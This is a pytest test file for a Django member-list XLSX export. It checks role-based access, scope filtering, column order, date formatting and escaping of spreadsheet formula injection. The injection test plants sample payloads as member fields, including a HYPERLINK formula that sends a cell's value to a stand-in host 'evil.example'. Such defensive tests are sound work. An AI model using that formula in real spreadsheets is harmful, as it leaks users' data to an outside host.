"""XLSX export of the filtered member list: access, scope, content, dates and formula-injection safety."""

import datetime as dt
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from dangvu import testing
from dangvu.members.exports import HEADERS, members_xlsx, safe_text
from dangvu.members.models import Member

pytestmark = pytest.mark.django_db
EXPORT = reverse("members:export")


def sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def rows(content: bytes) -> list[tuple]:
    return list(sheet(content).iter_rows(values_only=True))


def col(name: str) -> int:
    return HEADERS.index(name)


@pytest.mark.parametrize(
    ("role", "status"),
    [
        ("admin", 200),
        ("office", 200),
        ("inspector", 200),
        ("leader", 200),
        ("secretary", 200),
        ("outsider", 200),
        ("member", 403),
        ("nobody", 403),
    ],
)
def test_export_access_per_role(client, cast, role, status):
    client.force_login(getattr(cast, role))
    response = client.get(EXPORT)
    assert response.status_code == status
    if status == 200:
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        assert "attachment" in response["Content-Disposition"] and ".xlsx" in response["Content-Disposition"]


def test_anonymous_export_goes_to_login(client, cast):
    response = client.get(EXPORT)
    assert response.status_code == 302 and reverse("accounts:login") in response["Location"]


def test_export_content_headers_order_and_dates(client, cast, people):
    client.force_login(cast.office)
    data = rows(b"".join(client.get(EXPORT).streaming_content))
    assert list(data[0]) == HEADERS
    for header in ("Họ và tên", "Giới tính", "Ngày sinh", "Chi bộ", "Trạng thái", "Ngày vào Đảng", "Ngày chính thức"):
        assert header in HEADERS
    for header in ("Số thẻ đảng viên", "CCCD", "Dân tộc", "Tôn giáo", "Trình độ LLCT"):
        assert header in HEADERS
    # Committee A's members in Vietnamese order by given name: An, Bình, Đức.
    assert [r[col("Họ và tên")] for r in data[1:]] == ["Nguyễn Văn An", "Trần Thị Bình", "Lê Minh Đức"]
    an = people["an"]
    row = data[1]
    assert row[col("Giới tính")] == "Nam" and data[2][col("Giới tính")] == "Nữ"
    assert row[col("Chi bộ")] == an.organisation.name
    assert row[col("Trạng thái")] == "Đảng viên chính thức"
    assert row[col("CCCD")] == an.citizen_id
    assert row[col("Ngày sinh")].date() == an.birth_date
    assert row[col("Ngày vào Đảng")].date() == an.admission_date
    assert row[col("Ngày chính thức")].date() == an.official_date


def test_export_dates_are_real_dates_formatted_dd_mm_yyyy(cast, people):
    ws = sheet(members_xlsx(Member.objects.filter(pk=people["an"].pk)))
    cell = ws.cell(row=2, column=col("Ngày sinh") + 1)
    assert cell.is_date and cell.number_format == "DD/MM/YYYY"


def test_export_uses_the_list_filters_and_all_rows_not_the_page(client, cast, settings):
    settings.PAGE_SIZE = 1
    client.force_login(cast.office)
    all_rows = rows(b"".join(client.get(EXPORT).streaming_content))
    assert len(all_rows) == 1 + 3  # header + every matching member, not only the first page
    found = rows(b"".join(client.get(EXPORT, {"q": "nguyen van an"}).streaming_content))
    assert [r[0] for r in found[1:]] == ["Nguyễn Văn An"]
    women = rows(b"".join(client.get(EXPORT, {"sex": "F", "page": 1}).streaming_content))
    assert [r[0] for r in women[1:]] == ["Trần Thị Bình"]


def test_export_is_scope_limited(client, cast, people):
    client.force_login(cast.outsider)
    data = rows(b"".join(client.get(EXPORT, {"status": ""}).streaming_content))
    assert [r[0] for r in data[1:]] == ["Phạm Thị Em"]
    client.force_login(cast.secretary)
    data = rows(b"".join(client.get(EXPORT).streaming_content))
    assert sorted(r[0] for r in data[1:]) == ["Nguyễn Văn An", "Trần Thị Bình"]
    # Asking for A's cell does not widen the outsider's scope.
    client.force_login(cast.outsider)
    data = rows(b"".join(client.get(EXPORT, {"organisation": people["an"].organisation_id}).streaming_content))
    assert data[1:] == []


def test_export_is_safe_against_formula_injection(client, cast, tree):
    testing.member(
        tree.c1,
        "Đặng Văn Hiểm",
        other_names='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        occupation="=1+1",
        religion="+SUM(1,2)",
        position="@cmd",
        residence="-2+3",
        birth_place="#N/A",
    )
    client.force_login(cast.office)
    content = b"".join(client.get(EXPORT, {"q": "dang van hiem"}).streaming_content)
    ws = sheet(content)
    assert ws.max_row == 2
    values = {HEADERS[c.column - 1]: c for c in ws[2]}
    assert values["Tên gọi khác"].value == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert values["Nghề nghiệp"].value == "'=1+1"
    assert values["Tôn giáo"].value == "'+SUM(1,2)"
    assert values["Chức vụ"].value == "'@cmd"
    assert values["Nơi cư trú"].value == "'-2+3"
    for cell in ws[2]:
        assert cell.data_type != "f"
        if isinstance(cell.value, str):
            assert cell.data_type == "s"
    assert values["Nơi sinh"].data_type == "s"  # "#N/A" stays text, not an error value
    # No formula element anywhere in the sheet's XML.
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml


def test_safe_text():
    assert safe_text("=1+1") == "'=1+1"
    assert safe_text("\tx") == "'\tx"
    assert safe_text("Nguyễn Văn An") == "Nguyễn Văn An"
    assert safe_text("a=b") == "a=b"
    assert safe_text("bad\x01char") == "badchar"


def test_members_xlsx_function_streams_the_queryset(cast, tree, django_assert_max_num_queries):
    for _ in range(30):
        testing.member(tree.c2, birth=dt.date(1990, 1, 1))
    qs = Member.objects.order_by("name_sort", "id")
    # One select_related query (chunked), not one per row, and three for the cells' labels (dangvu.orgs.labels).
    with django_assert_max_num_queries(4):
        content = members_xlsx(qs)
    assert len(rows(content)) == 1 + qs.count()
